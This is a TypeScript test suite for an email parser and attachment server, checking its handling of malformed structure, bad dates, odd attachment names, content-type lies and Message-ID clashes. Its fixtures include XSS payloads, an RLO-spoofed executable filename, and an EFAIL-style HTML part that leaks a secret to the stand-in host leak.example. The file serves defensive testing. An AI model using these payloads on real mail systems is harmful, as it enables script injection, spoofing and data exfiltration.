import assert from 'node:assert/strict'
import { type Case, file, head, mixed, ofOwn } from './nastiest-mails.ts'

/** The nastiest cases from 13 on: shapes that are no message, dates, alternatives, and what hangs on a message. */
export const nastiestFiles: Case[] = [
  {
    n: 13,
    what: 'no blank line, blank line first, byte order mark, CR alone, CR CR LF, NUL, nothing, no message at all',
    files: [
      ...['structure-leading-blank-line.eml', 'structure-byte-order-mark.eml', 'structure-cr-only.eml'],
      ...[
        'structure-crcrlf.eml',
        'structure-header-only.eml',
        'structure-binary.eml',
        'structure-lf-only.eml',
      ],
    ],
    made: {
      'only NUL': '\0'.repeat(2000),
      'no colon anywhere': 'this is no header\nnor is this\n',
      'one octet': 'x',
    },
    corpus: [
      ...ofOwn('structure-bom', 'structure-cr-only', 'structure-crcrlf', 'structure-leading-blank-line'),
      ...ofOwn('structure-header-only', 'structure-binary', 'structure-header-garbage'),
      'python-email/msg_35.txt',
    ],
    holds({ email }) {
      assert.equal(typeof email.preview, 'string')
      assert.ok(email.textBody.length + email.attachments.length > 0)
    },
  },
  {
    n: 14,
    what: 'impossible, missing, doubled and far dates: when it was received is always known, and orders the list',
    files: ['date-impossible.eml', 'date-empty.eml', 'date-year-0.eml', 'date-german.eml'],
    made: {
      'year 9999': head.replace(/Date: .*/, 'Date: Fri, 31 Dec 9999 23:59:59 +0000').concat('\nx\n'),
      'date twice': `${head}Date: Thu, 01 Jan 1970 00:00:00 +0000\n\nx\n`,
    },
    corpus: [
      ...ofOwn(
        'date-far-future',
        'date-impossible',
        'date-none',
        'date-twice',
        'date-huge',
        'date-year-zero',
      ),
      ...['bad_date_header.eml', 'bad_date_header2.eml'].map(name => `ruby-mail/error_emails/${name}`),
    ],
    holds({ email }, name) {
      assert.ok(Date.parse(email.receivedAt) < Date.now() + 86_400_000, 'it would stand at the top for ever')
      if (email.sentAt !== null) assert.ok(!Number.isNaN(Date.parse(email.sentAt)), email.sentAt)
      if (/impossible|empty|none|huge|year-0|year-zero/.test(name)) assert.equal(email.sentAt, null)
      if (name === 'date twice') assert.equal(email.sentAt, '2026-03-03T10:20:30+01:00')
    },
  },
  {
    n: 15,
    what: 'an empty plain part, HTML first, files inside alternatives: both bodies and every file are there',
    files: ['structure-alternative-empty-plain.eml'],
    made: {
      'html first': `${head}Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/html\n\n<b>html</b>\n--b\n\nplain\n--b--\n`,
      'file inside': `${head}Content-Type: multipart/alternative; boundary=b\n\n--b\n\nplain\n--b\nContent-Type: application/pdf; name=a.pdf\n\n%PDF\n--b--\n`,
    },
    corpus: ofOwn('structure-alternative-empty-plain', 'structure-alternative-html-first'),
    async holds({ email, html }, name) {
      assert.notEqual(email.preview.trim(), '')
      if (name === 'file inside') {
        const parts = [...email.textBody, ...email.htmlBody, ...email.attachments]
        assert.ok(parts.some(part => part.name === 'a.pdf'))
      } else assert.match((await html()).join(), /html/)
    },
  },
  {
    n: 16,
    what: 'file names with paths, controls, overrides, thousands of letters, names of devices',
    files: [
      ...['attachment-traversal.eml', 'attachment-nul.eml', 'attachment-line-break.eml'],
      'attachment-windows-path.eml',
    ],
    made: {
      override: file(
        'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="invoice\xe2\x80\xaefdp.exe"',
      ),
      long: file(`Content-Disposition: attachment; filename="${'x'.repeat(5000)}.exe"`),
      device: file('Content-Disposition: attachment; filename="CON"'),
    },
    corpus: ofOwn(
      ...['attachment-traversal', 'attachment-rlo', 'attachment-nul', 'attachment-newline-2231'],
      ...['attachment-long', 'attachment-reserved', 'attachment-quote-injection', 'attachment-backslash'],
    ),
    async holds({ email, saved }) {
      const [part] = email.attachments
      assert.ok(part?.blobId && part.name)
      const answer = await saved(part.blobId, part.name, 'application/octet-stream')
      const disposition = answer.headers.get('content-disposition') ?? ''
      assert.match(disposition, /^attachment; filename="[^"\\/]{1,190}"; filename\*=UTF-8''/)
      const name = decodeURIComponent(disposition.split("''")[1] ?? '')
      assert.ok(name.length > 0 && Buffer.byteLength(name) <= 181, name)
      assert.doesNotMatch(name, /[/\\\p{Cc}\p{Cf}]|^\.|^con$/iu)
      const extension = /\.[a-z]{3}$/.exec(part.name)?.[0]
      if (extension) assert.ok(name.endsWith(extension), `${name} hides ${extension}`)
      await answer.arrayBuffer()
    },
  },
  {
    n: 17,
    what: 'RFC 2231 in every order and mixture',
    files: [
      ...['attachment-2231-out-of-order.eml', 'attachment-2231-segments.eml', 'attachment-both-forms.eml'],
      'attachment-encoded-word.eml',
    ],
    corpus: [
      ...ofOwn('attachment-2231-out-of-order', 'attachment-2231-gap', 'attachment-2231-mixed'),
      ...ofOwn('attachment-both-forms', 'attachment-word-in-quotes'),
    ],
    holds({ email }) {
      const name = email.attachments[0]?.name ?? ''
      assert.ok(name)
      assert.doesNotMatch(name, /''|=\?|\*\d?=/)
    },
  },
  {
    n: 18,
    what: 'files that lie about their type are downloads, and never documents of our origin',
    made: {
      'html as png': file(
        'Content-Type: image/png; name=x.png\nContent-Disposition: attachment',
        '<script>alert(1)</script>',
      ),
      svg: file(
        'Content-Type: image/svg+xml; name=x.svg\nContent-Disposition: attachment',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      ),
      html: file(
        'Content-Type: text/html; name=x.html\nContent-Disposition: attachment',
        '<script>alert(1)</script>',
      ),
    },
    corpus: ofOwn('attachment-html-as-png', 'attachment-svg', 'attachment-html-inline'),
    async holds({ email, saved }) {
      const part = [...email.attachments, ...email.htmlBody].findLast(one => one.type !== 'text/plain')
      assert.ok(part?.blobId)
      for (const asked of ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', part.type]) {
        const answer = await saved(part.blobId, part.name ?? 'x', asked)
        assert.match(answer.headers.get('content-disposition') ?? '', /^attachment;/)
        assert.equal(answer.headers.get('x-content-type-options'), 'nosniff')
        assert.match(answer.headers.get('content-security-policy') ?? '', /^sandbox; default-src 'none'$/)
        assert.match(
          answer.headers.get('content-type') ?? '',
          /^(application\/octet-stream|image\/png)$/,
          asked,
        )
        await answer.arrayBuffer()
      }
    },
  },
  {
    n: 19,
    what: 'winmail.dat, uuencode, pieces and bodies elsewhere: offered as they are, pieces named, nothing fetched',
    files: ['body-uuencode.eml'],
    made: {
      winmail: file(
        'Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64',
        'eJ8+IgA=',
      ),
      piece: `${head}Content-Type: message/partial; number=1; total=2; id="a@b"\n\nSubject: inner\n\nhalf\n`,
      elsewhere: `${head}Content-Type: message/external-body; access-type=URL; URL="https://leak.example/x"\n\nContent-Type: text/plain\n\n`,
    },
    corpus: ofOwn('structure-uuencode', 'structure-partial', 'structure-external-body'),
    async holds({ email, text, download }, name) {
      if (name.includes('uuencode')) return assert.ok(text.trim() || email.attachments.length > 0)
      const [part] = email.attachments
      assert.ok(part?.blobId)
      if (/piece|partial/.test(name)) assert.equal(part.name, 'part 1 of 2.eml')
      assert.ok((await download(part.blobId)).length > 0)
    },
  },
  {
    n: 20,
    what: 'HTML parts that would be glued to steal another part are documents of their own',
    made: {
      glued: mixed(
        'Content-Type: text/html\n\n<img src="https://leak.example/efail/',
        'Content-Type: text/plain\n\nSECRET',
        'Content-Type: text/html\n\n">',
      ),
    },
    corpus: ofOwn('structure-efail-direct'),
    async holds({ html }) {
      const documents = await html()
      assert.equal(documents.length, 2)
      for (const document of documents) assert.doesNotMatch(document, /SECRET|leak\.(example|invalid)/)
    },
  },
  {
    n: 30,
    what: 'no Message-ID, and one that two different messages have: neither is taken for the other',
    made: {
      'no id': `${head}\nwithout\n`,
      'an id': `${head}Message-ID: <twice@mail.example>\n\nthe first\n`,
      'the same id': `${head}Message-ID: <twice@mail.example>\n\nthe second\n`,
    },
    corpus: ofOwn('from-none'),
    holds({ email, text }, name) {
      if (name === 'an id') assert.equal(text, 'the first\n')
      if (name === 'the same id') assert.equal(text, 'the second\n')
      if (name === 'no id') assert.equal(email.messageId, null)
    },
  },
]
